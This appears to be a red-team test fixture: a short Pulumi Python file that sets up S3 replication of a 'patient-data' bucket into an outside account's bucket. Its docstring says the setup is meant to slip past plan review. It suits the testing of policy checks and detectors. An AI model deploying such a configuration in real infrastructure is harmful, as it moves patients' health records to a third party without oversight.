"""Replicate patient files straight into a partner's bucket, named by ARN: the plan does not
hold it, and an S3 ARN carries no region."""

import pulumi_aws as aws
from redteam_base import compliant_bucket, opts
from redteam_movement import replication_role

patients = compliant_bucket("patient-data")
role = replication_role("partner-replication-role")
aws.s3.BucketReplicationConfig(
    "partner-replication",
    bucket=patients.id,
    role=role.arn,
    rules=[{"id": "to-partner", "status": "Enabled", "filter": {"prefix": "exports/"},
            "delete_marker_replication": {"status": "Disabled"},
            "destination": {"bucket": "arn:aws:s3:::gulf-research-partner-intake", "account": "111122223333",
                            "access_control_translation": {"owner": "Destination"}}}],
    opts=opts,
)
